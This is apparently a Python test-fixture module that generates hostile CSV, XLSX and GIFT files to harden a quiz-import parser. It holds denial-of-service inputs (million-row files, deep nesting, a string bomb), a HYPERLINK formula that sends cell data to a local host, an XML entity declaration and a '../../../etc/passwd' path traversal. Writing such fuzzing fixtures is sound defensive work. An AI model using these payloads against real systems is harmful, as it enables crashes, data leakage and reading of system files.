"""Tables, GIFT and files of others made to hurt."""

from .pieces import CSV_ROW, HEADINGS, MEGABYTE, archive, hostile, inline, sheet, workbook


@hostile("a million columns.csv")
def _columns() -> bytes:
    return b"key" + b",ab" * 1_000_000 + b"\nx\n"


@hostile("a million columns in a row.csv")
def _row() -> bytes:
    return CSV_ROW.encode() + b"ab," * 1_000_000


@hostile("a million rows.csv")
def _rows() -> bytes:
    return CSV_ROW.encode() + b"k,s,t,q,a,b,a\n" * 560_000


@hostile("a million empty rows of faults.csv")
def _faults() -> bytes:
    return CSV_ROW.encode() + b"x\n" * 1_000_000


@hostile("an endless field.csv")
def _field() -> bytes:
    return CSV_ROW.encode() + b'k,"' + b"a\n" * (3 * MEGABYTE)


@hostile("NUL in a table.csv")
def _nul_csv() -> bytes:
    return CSV_ROW.encode() + b"k,single_choice,t,q\0,a,b,a\n"


@hostile("neither charset.csv")
def _neither() -> bytes:
    return CSV_ROW.encode() + b"k,single_choice,t,\x81\x8d,a,b,a\n"


@hostile("deep JSON.csv")
def _json() -> bytes:
    return b"fr.question,interaction,answer (json)\nq,order," + b"[" * 100_000 + b"\n"


@hostile("an endless number.csv")
def _digits() -> bytes:
    return b"fr.question,interaction,answer.value (json)\nq,number," + b"9" * 400_000 + b"\n"


@hostile("infinity.csv")
def _infinity() -> bytes:
    return b"fr.question,interaction,answer.value (json)\nq,number,1e999999\nq,number,NaN\nq,number,-Infinity\n"


@hostile("levels without end.csv")
def _levels() -> bytes:
    return b"fr.question,interaction,fr.artefact (json)\nq,order," + b"[" * 900 + b"]" * 900 + b"\n"


@hostile("forty thousand fields.csv")
def _fields() -> bytes:
    inner = ",".join(f'""alt{n}"":1' for n in range(30_000))
    return f'fr.question,interaction,fr.artefact (json)\nq,order,"{{{inner}}}"\n'.encode()


@hostile("no such interaction.csv")
def _kind() -> bytes:
    return b"fr.question,interaction\nq,__class__\n"


@hostile("a column twice.csv")
def _twice() -> bytes:
    return b"fr.question,fr.question\na,b\n"


@hostile("macros.xlsx")
def _macros() -> bytes:
    return workbook(sheet(HEADINGS), xl__vbaProject_bin=b"\xd0\xcf\x11\xe0")


@hostile("links to other workbooks.xlsx")
def _links() -> bytes:
    return workbook(sheet(HEADINGS), xl__externalLinks__externalLink1_xml=b"<externalLink/>")


@hostile("formulas.xlsx")
def _formulas() -> bytes:
    evil = '<c><f>HYPERLINK("http://127.0.0.1:9/"&amp;A1)</f><v>ok</v></c>'
    return workbook(sheet(HEADINGS, inline("single_choice") + evil + inline("a", "b", "a")))


@hostile("entities in a sheet.xlsx")
def _sheet_entities() -> bytes:
    return workbook(b'<!DOCTYPE w [<!ENTITY a "b">]>' + sheet(HEADINGS))


@hostile("a cell far away.xlsx")
def _far() -> bytes:
    return workbook(sheet(HEADINGS, '<c r="XFD1048576"><v>1</v></c>'))


@hostile("a bomb of strings.xlsx")
def _strings() -> bytes:
    return workbook(sheet(HEADINGS), xl__sharedStrings_xml=b"<sst>" + b"<si><t>a</t></si>" * 2_000_000 + b"</sst>")


@hostile("a sheet outside.xlsx")
def _outside() -> bytes:
    return archive(
        xl__workbook_xml=b'<workbook><sheets><sheet id="r1"/></sheets></workbook>',
        **{"xl___rels__workbook_xml.rels": b'<R><Relationship Id="r1" Target="../../../etc/passwd"/></R>'},
    )


@hostile("signs without end.gift")
def _signs() -> bytes:
    return b"Question {" + b"~%" * 30_000 + b"}"


@hostile("braces without end.gift")
def _braces() -> bytes:
    return b"{" * (7 * MEGABYTE)


@hostile("backslashes without end.gift")
def _backslashes() -> bytes:
    return b"Q {=" + b"\\" * 5_000_000 + b"}"


@hostile("a million lines in one question.gift")
def _gift_lines() -> bytes:
    return b"Q {\n" + b"=a\n" * 1_000_000


@hostile("weights that make patterns loop.gift")
def _weights() -> bytes:
    return b"Q {~%" + b"1" * 60_000 + b"." + b"1" * 4000 + b"}"


@hostile("UTF-16 with a NUL.gift")
def _gift_nul() -> bytes:
    return "Q\0 {=a}".encode("utf-16")


@hostile("a picture.xml")
def _picture() -> bytes:
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(200)


@hostile("old office.xls")
def _ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


@hostile("nothing.csv")
def _nothing() -> bytes:
    return b" \r\n"


@hostile("too large.csv")
def _large() -> bytes:
    return b"a" * (9 * MEGABYTE)
